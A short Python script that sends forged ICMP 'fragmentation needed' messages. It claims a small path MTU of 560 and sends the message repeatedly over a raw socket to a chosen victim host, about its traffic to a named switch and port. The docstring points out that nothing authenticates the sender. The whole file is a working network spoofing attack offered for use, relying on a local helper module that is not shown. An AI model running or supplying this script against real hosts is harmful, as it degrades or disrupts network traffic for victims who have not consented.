#!/usr/bin/env python3
"""Run in a host: tells another, by ICMP, that its packets to the switch are too long for the path: narrow.py VICTIM SWITCH PORT

PORT is the victim's. Anybody can say so; nothing in the message proves who has."""
import socket
import struct
import sys

import raw

MTU, TIMES = 560, 20
victim, switch, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
quoted = raw.ipv4(victim, switch, 17, struct.pack("!HHHH", port, 0xBEE0, 1480, 0), total=1500, fragment=0x4000)
message = struct.pack("!BBHHH", 3, 4, 0, 0, MTU) + quoted
message = message[:2] + struct.pack("!H", raw.checksum(message)) + message[4:]
icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for _ in range(TIMES):
    icmp.sendto(message, (victim, 0))
